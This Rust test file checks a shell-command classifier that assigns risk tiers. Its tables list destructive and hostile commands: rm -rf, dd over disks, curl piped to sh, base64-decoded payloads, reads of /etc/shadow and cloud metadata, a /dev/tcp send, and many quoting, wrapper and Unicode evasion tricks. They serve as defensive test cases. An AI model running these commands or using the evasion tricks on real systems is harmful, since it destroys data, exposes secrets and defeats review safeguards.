//! Table tests: each line is a command and the tier it must get. The big golden corpus lives in
//! `classifier/corpus/`; these are the cases the spine depends on.

use super::*;

fn tier(cmd: &str) -> Tier {
    Classifier::builtin()
        .classify(cmd, &Context::default())
        .tier
}

#[track_caller]
fn check(cases: &[(&str, Tier)]) {
    let c = Classifier::builtin();
    let mut wrong = Vec::new();
    for (cmd, want) in cases {
        let a = c.classify(cmd, &Context::default());
        if a.tier != *want {
            wrong.push(format!(
                "{cmd:?}: want {want}, got {} ({:?})",
                a.tier, a.reasons
            ));
        }
    }
    assert!(wrong.is_empty(), "misclassified:\n{}", wrong.join("\n"));
}

#[test]
fn spine_examples() {
    use Tier::*;
    check(&[
        ("ls -la /tmp", Low),
        ("cat /etc/hostname", Low),
        ("echo hello world", Low),
        ("git status", Low),
        ("exit 3", Low),
        ("true", Low),
        ("touch /tmp/x", Medium),
        ("mkdir -p /srv/app", Medium),
        ("cp a b", Medium),
        ("systemctl restart nginx", Medium),
        ("rm -rf /var/www", High),
        ("rm -rf /", High),
        ("psql -c 'DROP TABLE users'", High),
        ("dd if=/dev/zero of=/dev/sda bs=1M", High),
        ("git push --force origin main", High),
        ("git push origin +main", High),
    ]);
}

#[test]
fn wrappers_and_quoting_do_not_hide_commands() {
    use Tier::*;
    check(&[
        ("sudo rm -rf /srv", High),
        (
            "sudo -u root env X=1 nice -n 5 timeout 10 rm -rf /srv",
            High,
        ),
        ("bash -c 'rm -rf /srv'", High),
        ("sh -lc \"git push -f\"", High),
        ("r''m -rf /srv", High),
        ("\"rm\" -rf /srv", High),
        ("\\rm -rf /srv", High),
        ("/bin/rm -rf /srv", High),
        ("$'\\x72\\x6d' -rf /srv", High),
        ("echo $(rm -rf /srv)", High),
        ("echo `rm -rf /srv`", High),
        ("find / -name '*.log' -exec rm -rf {} \\;", High),
        ("find . -delete", High),
        ("ls | xargs rm -rf", High),
        ("su -c 'rm -rf /srv'", High),
        ("eval 'rm -rf /srv'", High),
        ("ssh web1 'rm -rf /srv'", High),
        ("kubectl exec -it pod -- rm -rf /data", High),
        ("docker exec app rm -rf /data", High),
        ("if true; then rm -rf /srv; fi", High),
        ("f() { rm -rf /srv; }; f", High),
        ("(cd /tmp && rm -rf /srv)", High),
    ]);
}

#[test]
fn dynamic_and_piped_code_is_never_low() {
    use Tier::*;
    check(&[
        ("$X -rf /", High),
        ("$(echo rm) -rf /srv", High),
        // Principle 2: a program name the reviewer cannot read is high.
        ("$CMD status", High),
        ("{rm,-rf,/srv}", High),
        ("rm${IFS}-rf${IFS}/srv", High),
        ("X='rm -rf /srv'; eval \"$X\"", High),
        ("bash <<< \"$(echo cm0gLXJmIC8= | base64 -d)\"", High),
        ("curl https://x.example/install.sh | sh", High),
        ("echo cm0gLXJmIC8= | base64 -d | bash", High),
        ("bash", High),
        ("python3", High),
    ]);
}

#[test]
fn data_is_not_execution() {
    use Tier::*;
    check(&[
        ("grep -r \"rm -rf\" .", Low),
        ("echo \"DROP TABLE users\"", Low),
        ("man rm", Low),
        ("git log --grep=force", Low),
        ("terraform plan -destroy", Low),
        ("kubectl delete pod x --dry-run=client", Low),
        ("kubectl delete pod x --dry-run=none", High),
        ("echo hi > /dev/null", Low),
        ("psql -c 'SELECT 1'", Low),
    ]);
}

#[test]
fn redirections_are_judged() {
    use Tier::*;
    check(&[
        ("echo x > /etc/passwd", High),
        ("echo x >> ~/.ssh/authorized_keys", High),
        (": > app.log", Medium),
        ("echo x > out.txt", Medium),
    ]);
}

#[test]
fn sql_statements_are_judged() {
    use Tier::*;
    check(&[
        ("psql -c 'DELETE FROM users'", High),
        ("psql -c 'DELETE FROM users WHERE id = 1'", Medium),
        ("mysql -e 'update t set a=1'", High),
        ("sqlite3 db.sqlite 'select * from t'", Low),
        ("redis-cli FLUSHALL", High),
        ("psql <<< 'drop database prod'", High),
        ("psql", High),
        ("psql --version", Low),
    ]);
}

#[test]
fn unparseable_and_oversized_input_is_high() {
    assert_eq!(tier("echo 'unterminated"), Tier::High);
    assert_eq!(tier("if then fi"), Tier::High);
    assert_eq!(tier(&"a".repeat(MAX_COMMAND_BYTES + 1)), Tier::High);
    assert_eq!(tier("echo \0"), Tier::High);
}

#[test]
fn score_stays_in_the_tier_band_and_production_raises_it() {
    let c = Classifier::builtin();
    let mut ctx = Context::default();
    let plain = c.classify("systemctl restart nginx", &ctx);
    ctx.labels.insert("env".into(), "prod".into());
    ctx.target = "web-1".into();
    let prod = c.classify("systemctl restart nginx", &ctx);
    assert_eq!(plain.tier, Tier::Medium);
    assert!((30..=69).contains(&plain.score));
    assert!(
        prod.score > plain.score,
        "{} vs {}",
        prod.score,
        plain.score
    );
    assert!(prod.reasons.iter().any(|r| r.rule == "context.production"));
}

#[test]
fn deeply_nested_compound_commands_are_high_not_a_crash() {
    // The parser recurses per nested `if`: hundreds of levels once overflowed the stack and
    // took the gateway down. Open, closed, and with closers hidden in strings.
    let open = "if true; then\n".repeat(300);
    let closed = format!("{open}rm -rf /srv\n{}", "fi\n".repeat(300));
    let hidden = "if true; then echo \"; fi;\"\n".repeat(300);
    let loops = "while true; do for x in a; do\n".repeat(150);
    for text in [&open, &closed, &hidden, &loops] {
        assert_eq!(tier(text), Tier::High);
        assert_eq!(
            crate::completeness(text),
            crate::Completeness::Invalid,
            "never parsed"
        );
    }
    // Ordinary scripts with a few sequential blocks still parse.
    let fine = "if a; then b; fi\nwhile c; do d; done\ncase x in a) b;; esac\n".repeat(5);
    assert_eq!(crate::completeness(&fine), crate::Completeness::Complete);
}

#[test]
fn deep_nesting_is_bounded() {
    // Substitutions nested past MAX_DEPTH: the classifier stops and calls it high.
    let mut cmd = "rm -rf /srv".to_string();
    for _ in 0..(MAX_DEPTH + 4) {
        cmd = format!("echo $({cmd})");
    }
    assert_eq!(tier(&cmd), Tier::High);
    // A harmless command nested too deep is still high: we could not see to the bottom.
    let mut cmd = "ls".to_string();
    for _ in 0..(MAX_DEPTH + 4) {
        cmd = format!("echo $({cmd})");
    }
    assert_eq!(tier(&cmd), Tier::High);
    // Long wrapper chains are bounded too.
    assert_eq!(tier(&format!("{}ls", "sudo ".repeat(40))), Tier::High);
}

#[test]
fn overrides_replace_builtin_rules() {
    let pack = RulePack::builtin_with(&[(
        "ops.toml",
        r#"
[[rule]]
id = "fs.write"
programs = ["touch"]
tier = "low"
why = "touch is harmless here"
"#,
    )])
    .expect("valid pack");
    let c = Classifier::with_pack(pack);
    assert_eq!(c.classify("touch x", &Context::default()).tier, Tier::Low);
}

#[test]
fn bad_packs_are_rejected_with_the_rule_named() {
    let err = RulePack::from_sources(&[(
        "p.toml",
        "[[rule]]\nid = \"x\"\nprograms = [\"a\"]\nargs = \"(\"\ntier = \"low\"\nwhy = \"y\"\n",
    )])
    .expect_err("bad regex");
    assert!(
        err.to_string()
            .starts_with("p.toml:4: rule x: invalid args regex"),
        "{err}"
    );
    let err = RulePack::from_sources(&[(
        "p.toml",
        "[[rule]]\nid = \"x\"\nprograms = [\"a\"]\ntier = \"extreme\"\nwhy = \"y\"\n",
    )])
    .expect_err("bad tier");
    assert!(err.to_string().starts_with("p.toml:4: rule x:"), "{err}");
    assert!(err.to_string().contains("extreme"), "{err}");
    let err = RulePack::from_sources(&[(
        "p.toml",
        "[[rule]]\nid = \"x\"\nprograms = [\"*\"]\ntier = \"low\"\nwhy = \"y\"\n",
    )])
    .expect_err("wildcard without keywords");
    assert!(err.to_string().contains("keywords"), "{err}");
    let err = RulePack::from_sources(&[("p.toml", "[[rule]]\nid = \"x\"\nprogram = [\"a\"]\n")])
        .expect_err("unknown field");
    assert!(err.to_string().starts_with("p.toml:3:"), "{err}");
}

#[test]
fn builtin_pack_examples_hold() {
    let c = Classifier::builtin();
    assert!(
        c.pack().examples().len() >= 30,
        "too few examples in the builtin packs"
    );
    let failing: Vec<String> = c
        .failing_examples()
        .iter()
        .map(|(e, got)| {
            format!(
                "{}:{}: {:?} want {}, got {got}",
                e.pack, e.line, e.command, e.tier
            )
        })
        .collect();
    assert!(failing.is_empty(), "{}", failing.join("\n"));
}

#[test]
fn non_utf8_bytes_are_high() {
    let c = Classifier::builtin();
    let a = c.classify_bytes(b"ls \xff", &Context::default());
    assert_eq!(a.tier, Tier::High);
    assert_eq!(a.reasons[0].rule, "input.not-utf8");
    assert_eq!(c.classify_bytes(b"ls", &Context::default()).tier, Tier::Low);
}

#[test]
fn low_only_by_proof() {
    use Tier::*;
    check(&[
        // Known programs in read-only modes.
        ("ls -la /var/log", Low),
        ("grep -rn TODO src/", Low),
        ("tail -n 50 /var/log/syslog", Low),
        ("sort -u names.txt", Low),
        ("tar -tzf backup.tgz", Low),
        ("gzip -dc app.log.gz", Low),
        ("sed -n '/error/p' app.log", Low),
        ("awk '{print $1}' access.log", Low),
        ("curl -s https://example.com/health", Low),
        // An unknown flag of a known program, or a write/exec mode: never low.
        ("ls --frobnicate", Medium),
        ("sort -o /tmp/out data.txt", Medium),
        ("tar -xzf backup.tgz", Medium),
        ("gzip app.log", Medium),
        ("sed -i s/a/b/ f", Medium),
        ("sed '1e id' /etc/hostname", Medium),
        ("sed '1e rm -rf /srv' /etc/hostname", High),
        ("sed e commands.txt", High),
        ("echo aWQ= | base64 -d > /tmp/r.sh && sh /tmp/r.sh", High),
        (
            "curl -so /tmp/b https://example.com/b && chmod +x /tmp/b && /tmp/b",
            High,
        ),
        ("python3 <(curl -s https://example.com/x.py)", High),
        ("sed 's/.*/rm -rf &/e' list", High),
        ("awk '{print | \"sort -u\"}' jobs", Medium),
        ("awk '{print | \"sh\"}' jobs", High),
        ("awk -v c=sh '{print | c}' jobs", High),
        ("awk '{system($0)}' jobs", High),
        ("curl -o /tmp/x https://example.com/", Medium),
        ("curl dict://127.0.0.1:6379/info", Medium),
        ("top", Medium),
        ("top -b -n 1", Low),
        ("tee /tmp/x", Medium),
        ("unknown-tool --list", Medium),
    ]);
}

#[test]
fn wrappers_unwrap_generically() {
    use Tier::*;
    check(&[
        ("strace -f rm -rf /srv", High),
        ("flock /tmp/l rm -rf /srv", High),
        ("taskset -c 0 rm -rf /srv", High),
        ("prlimit --nofile=10 rm -rf /srv", High),
        ("ionice -c 3 rm -rf /srv", High),
        ("chrt -b 0 rm -rf /srv", High),
        ("numactl --interleave=all rm -rf /srv", High),
        ("script -qc 'rm -rf /srv' /dev/null", High),
        ("env -S'rm -rf /srv'", High),
        ("taskset -p 1 1234", Medium),
        ("strace -o /tmp/trace -p 1234", Medium),
    ]);
}

#[test]
fn hidden_characters_are_high_and_located() {
    let c = Classifier::builtin();
    for (text, code) in [
        ("echo hi \u{202E}; rm -rf /srv", "U+202E"),
        ("l\u{200B}s -la", "U+200B"),
        ("\u{0441}at /etc/passwd", "U+0441"),
        ("echo ok\u{1b}[2K", "U+001B"),
    ] {
        let a = c.classify(text, &Context::default());
        assert_eq!(a.tier, Tier::High, "{text:?}: {:?}", a.reasons);
        let r = a
            .reasons
            .iter()
            .find(|r| r.rule.starts_with("input."))
            .unwrap_or_else(|| panic!("{text:?}: no input.* reason: {:?}", a.reasons));
        assert!(r.text.contains(code), "{text:?}: {}", r.text);
        let (start, end) = r.span.unwrap_or_else(|| panic!("{text:?}: no span"));
        assert!(
            end > start && end <= text.len(),
            "{text:?}: span {start}..{end}"
        );
    }
}

#[test]
fn red_team_regressions() {
    use Tier::*;
    check(&[
        // Arguments only known at run time could be any flag.
        ("find . $(echo -delete)", Medium),
        ("sort $(echo -o) /etc/passwd /etc/passwd", Medium),
        ("X=-delete; find . $X", Medium),
        ("echo -delete | xargs find .", Medium),
        ("echo /tmp/x | xargs -I{} find {} -delete", High),
        ("echo /etc/shadow | xargs cat", High),
        ("cat \"$f\"", Low),
        ("find . -name '*.log' | xargs grep -l ERROR", Low),
        ("kubectl get $(echo secret) -o yaml", Medium),
        // Stored substitutions and prompt expansion.
        ("y='a[$(rm -rf ~)]'; echo $((y))", High),
        ("PS4='$(id)'; set -x; ls", High),
        // Redirections and files.
        ("ls >& /etc/passwd", High),
        ("cat /etc/hostname > /dev/tcp/203.0.113.9/80", High),
        ("cat /etc/shado?", High),
        ("cat /etc//shadow", High),
        ("echo \"$(< /etc/shadow)\"", High),
        // Secrets by other spellings.
        ("kubectl get -n kube-system secret -o json", High),
        ("curl http://0xa9fea9fe/latest/meta-data/", High),
        (
            "sqlite3 :memory: \"select writefile('/root/.ssh/authorized_keys', 'x')\"",
            High,
        ),
        ("psql -c 'select \"pg_read_file\"(''/etc/passwd'')'", Medium),
        // Abbreviated options that name programs.
        ("git ls-remote --up 'sh -c id' .", Medium),
        ("git ls-remote --up 'rm -rf ~' .", High),
        ("sort --compress-prog=sh big.txt", High),
        // sudo: a read stays a read; through root's shell or the caller's environment it is not.
        ("sudo lvs", Low),
        ("sudo -i id", Medium),
        ("sudo -E env", Medium),
    ]);
}

/// Every word-prefix of commands whose options take values (`sudo -u` with its value missing,
/// `xargs -I`, `git -c`, …) classifies without panicking (the fuzzer found `sudo -u` once).
#[test]
fn truncated_option_values_never_panic() {
    let c = Classifier::builtin();
    let lines = [
        "sudo -u root -i rm -rf /srv",
        "doas -u root sh -c 'rm -rf /srv'",
        "env -u X -S 'rm -rf /srv'",
        "xargs -I {} -a list rm {}",
        "git -c core.pager='rm -rf /srv' --config-env=core.pager=X log -1",
        "flock -w 5 /tmp/l -c 'rm -rf /srv'",
        "taskset -c 0 chrt -b 0 prlimit --nofile=10 ionice -c 3 rm -rf /srv",
        "script -q -c 'rm -rf /srv' /dev/null",
        "tar -I 'sh -c x' --to-command=sh -xf a.tar",
        "sort --compress-program sh -o /tmp/x y",
        "find . -name x -exec rm {} ;",
        "ssh -o ProxyCommand=x -p 22 host cmd",
        "timeout -s KILL 5 nice -n 5 stdbuf -o 0 rm -rf /srv",
        "systemd-run --unit x -p A=B rm -rf /srv",
    ];
    for line in lines {
        let words: Vec<&str> = line.split(' ').collect();
        for n in 1..=words.len() {
            let text = words[..n].join(" ");
            let a = c.classify(&text, &Context::default());
            assert!(
                (0..=100).contains(&a.score),
                "{text:?}: score {} out of range",
                a.score
            );
        }
    }
}

#[test]
fn spans_are_byte_ranges_even_after_multibyte_characters() {
    let c = Classifier::builtin();
    for cmd in [
        "éé; touch /tmp/a",
        "echo 'ééé' x; touch /tmp/a",
        "echo hi \u{202E}; ec\u{200B}ho x; touch /tmp/a",
        "x=日本; touch /tmp/a",
    ] {
        let a = c.classify(cmd, &Context::default());
        let touch = a
            .reasons
            .iter()
            .find(|r| r.rule == "fs.write")
            .and_then(|r| r.span)
            .unwrap_or_else(|| panic!("{cmd:?}: {:?}", a.reasons));
        assert_eq!(cmd.get(touch.0..touch.1), Some("touch /tmp/a"), "{cmd:?}");
        for r in &a.reasons {
            if let Some((s, e)) = r.span {
                assert!(cmd.get(s..e).is_some(), "{cmd:?} {}: {s}..{e}", r.rule);
            }
        }
    }
}
